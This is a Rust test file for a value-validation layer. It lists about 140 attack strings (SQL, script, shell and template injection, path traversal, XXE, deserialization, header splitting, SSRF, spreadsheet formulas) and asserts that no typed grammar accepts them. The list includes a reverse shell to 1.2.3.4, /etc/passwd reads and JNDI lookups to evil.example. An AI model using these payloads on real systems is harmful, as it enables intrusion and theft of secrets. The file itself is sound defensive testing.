//! What no grammar may take: attacks of all families, by themselves and within values that are right besides.

use super::super::class::Class;
use super::*;

/// Of all families. None of them fits any class without arguments of its own.
const ATTACKS: &[&str] = &[
    // SQL
    "' or 1=1--",
    "\" or \"\"=\"",
    "1 or 1=1",
    "1' and '1'='1",
    "admin'--",
    "admin--",
    "1; drop table users",
    "1 union select null,null--",
    "' union all select version()--",
    "1) or (1=1",
    "1'||'1",
    "1 and sleep(5)",
    "'; exec xp_cmdshell('dir')--",
    "1/**/or/**/1=1",
    "1'/*!50000union*/select 1",
    "0x31 or 1",
    "1 waitfor delay '0:0:5'",
    "(select 1)",
    "1 order by 10",
    "-1 union select 1",
    "1%27%20or%201=1",
    "\\' or 1=1#",
    "1 like 1",
    "a' rlike sleep(5)#",
    "pg_sleep(5)",
    "1;select pg_sleep(5)",
    "benchmark(1000000,md5(1))",
    "1=1",
    "'",
    "''",
    "\"",
    // Scripts in pages
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "<svg/onload=alert(1)>",
    "' onmouseover='alert(1)",
    "data:text/html,<script>x</script>",
    "vbscript:msgbox(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<a href=\"jav&#x09;ascript:x\">",
    "alert(1)",
    "alert`1`",
    "eval(atob('eA=='))",
    "&lt;script&gt;",
    "\\x3cscript\\x3e",
    "</textarea><script>",
    "${alert(1)}",
    "+ADw-script+AD4-",
    // Shells
    "; cat /etc/passwd",
    "| id",
    "|| whoami",
    "&& whoami",
    "`id`",
    "$(id)",
    "a;id",
    "a|id",
    "a&id",
    "() { :;}; /bin/bash -c id",
    "$IFS$9id",
    "{cat,/etc/passwd}",
    "/bin/cat /etc/passwd",
    "; ping -c 1 127.0.0.1",
    "\nid",
    "a\nid",
    "%0aid",
    "cmd.exe /c dir",
    "powershell -enc AAAA",
    "> /tmp/x",
    "bash -i >& /dev/tcp/1.2.3.4/1 0>&1",
    "--output=/tmp/x",
    "-oProxyCommand=id",
    // Paths
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/etc/passwd",
    "..%252f..%252fetc",
    "....//....//etc/passwd",
    "/etc/passwd",
    "/proc/self/environ",
    "C:\\windows\\win.ini",
    "file:///etc/passwd",
    "..%c0%af..%c0%afetc",
    "..;/manager",
    "php://filter/convert.base64-encode/resource=index",
    "expect://id",
    "/etc/passwd%00.png",
    "\\\\evil.example\\share",
    "..",
    "../",
    // Templates, expressions
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{config.__class__}}",
    "${jndi:ldap://evil.example/a}",
    "${${lower:j}ndi:rmi://x}",
    "%{(#a=1)}",
    "*{7*7}",
    "@(7*7)",
    "[[${7*7}]]",
    "{%if 1%}x{%endif%}",
    "__${7*7}__::x",
    "__proto__",
    "x.__class__.__mro__",
    // Directories, documents, objects
    "*)(uid=*))(|(uid=*",
    "admin)(&)",
    "*)(objectClass=*",
    "{\"$ne\":null}",
    "[$ne]",
    "{\"$where\":\"sleep(1)\"}",
    "'||'1'=='1",
    "' or '1'='1' or ''='",
    "//*[1=1]",
    "a' or count(/*)=1 or 'a'='b",
    "rO0ABXNyABdqYXZh|",
    "O:8:\"stdClass\":0:{}",
    "a:1:{i:0;s:1:\"a\";}",
    "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
    "<?xml version=\"1.0\"?><x>&e;</x>",
    "<!--#exec cmd=\"id\"-->",
    "<?php system('id');?>",
    "<xi:include href=\"x\"/>",
    "!!python/object/apply:os.system ['id']",
    "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\"}",
    // Lines
    "a\r\nSet-Cookie: x=1",
    "%0d%0aX: y",
    "a%0d%0a%0d%0a<html>",
    "a\0b",
    "\u{560d}\u{560a}X: y",
    "a\u{2028}b",
    "x\r\n\r\nGET / HTTP/1.1",
    // Elsewhere
    "http://169.254.169.254/latest/'",
    "gopher://127.0.0.1:6379/_x",
    "dict://127.0.0.1:11211/",
    "ldap://evil.example/a",
    "http://127.0.0.1:80@evil.example/",
    "jar:http://evil.example!/",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u{ff1c}script\u{ff1e}",
    "ʼ or 1=1",
];

#[test]
fn no_attack_is_typed() {
    assert!(ATTACKS.len() >= 80);
    let mut faults = Vec::new();
    // What a `field-value` lets through the scorer reads: below.
    for name in Grammar::NAMES.iter().filter(|name| **name != "field-value") {
        let spec = match *name {
            "enum" => "enum(todo, done)",
            // A pattern is as tight as its author made it.
            "pattern" => "pattern([A-Za-z0-9]+(-[A-Za-z0-9]+)*)",
            name => name,
        };
        let class = Class::parse(spec).unwrap();
        for attack in ATTACKS {
            faults.extend(class.check(attack.as_bytes()).ok().map(|()| format!("{spec} takes {attack:?}")));
        }
    }
    assert!(faults.is_empty(), "{}", faults.join("\n"));
}

/// An attack within a value that is right besides: it does not fit, or the scorer is handed it.
#[test]
fn no_attack_hides_in_a_right_value() {
    const WRAPS: &[(&str, &str, &str)] = &[
        ("uuid", "123e4567-e89b-12d3-a456-426614174000", ""),
        ("integer", "1", ""),
        ("slug", "a-", ""),
        ("identifier", "task-1", ""),
        ("identifier", "", "x1"),
        ("host", "example.com", ""),
        ("host", "", ".example.com"),
        ("url", "https://example.com", ""),
        ("url", "https://", ".example.com/"),
        ("url", "https://example.com/", ""),
        ("url", "https://example.com/?q=", ""),
        ("url", "https://example.com/#", ""),
        ("fetch-url", "https://example.com/?q=", ""),
        ("path", "/a?q=", ""),
        ("etag", "\"", "\""),
        ("etag", "\"abc", "\""),
        ("etag", "\"a\", ", ""),
        ("token68", "abc.", ""),
        ("cookie", "abc", ""),
        ("cookie", "a=", ""),
        ("email", "", "@example.com"),
        ("email", "a@example.com", ""),
        ("semver", "1.2.3-", ""),
        ("date", "2024-01-31", ""),
        ("file-name", "", ".md"),
        ("file-name", "a ", ".md"),
        ("file-name", "a.md", ""),
        ("media-type", "text/html; charset=", ""),
        ("media-type", "text/html; charset=\"", "\""),
        ("media-type", "application/", ""),
        ("accept", "text/html, ", ""),
        ("language", "en-US,", ""),
        ("language", "en;q=", ""),
        ("user-agent", "Mozilla/5.0 ", ""),
        ("user-agent", "Mozilla/5.0 (", ")"),
        ("user-agent", "Mozilla/5.0 (X11; Linux) ", " Gecko/20100101"),
        ("user-agent", "curl/", ""),
        ("encoding-list", "gzip, ", ""),
        ("token-list", "keep-alive, ", ""),
        ("origin", "https://", ""),
        ("origin", "https://example.com", ""),
        ("referer", "https://example.com/?q=", ""),
        ("authorization", "Bearer ", ""),
        ("authorization", "Digest a=\"", "\""),
        ("range", "bytes=0-1", ""),
        ("directives", "max-age=", ""),
        ("client-hint", "\"", "\";v=\"8\""),
        ("client-hint", "\"", "\""),
        ("field-value", "", ""),
        ("field-value", "a=1; b=", ""),
        ("field-value", "a=\"", "\""),
        ("field-value", "1.0 ", ", x"),
    ];
    let mut faults = Vec::new();
    for (spec, before, behind) in WRAPS {
        let Class::Typed(grammar) = Class::parse(spec).unwrap() else { panic!("{spec}") };
        for attack in ATTACKS {
            // What is ordinary there: a path behind a host, two parameters, two hyphens within a name.
            let ordinary = match (*spec, *attack) {
                ("url", "/etc/passwd" | "/proc/self/environ") | (_, "a&id") => {
                    before.starts_with("https:") || *spec == "path"
                }
                ("identifier", "admin--") => !behind.is_empty(),
                _ => false,
            };
            let value = format!("{before}{attack}{behind}");
            if !ordinary && grammar.fits(value.as_bytes()).is_ok() && grammar.texts(value.as_bytes()).is_empty() {
                faults.push(format!("{spec} takes {value:?}"));
            }
        }
    }
    for attack in ATTACKS {
        let encoded: String = attack.bytes().map(|b| format!("%{b:02X}")).collect();
        let value = format!("https://example.com/x?q={encoded}");
        let Class::Typed(grammar) = Class::parse("url").unwrap() else { panic!() };
        let told = grammar.texts(value.as_bytes()).iter().any(|(_, text)| text.as_ref() == attack.as_bytes());
        if grammar.fits(value.as_bytes()).is_ok() && !told {
            faults.push(format!("the scorer is not told of {value:?}"));
        }
    }
    assert!(faults.is_empty(), "{}", faults.join("\n"));
}
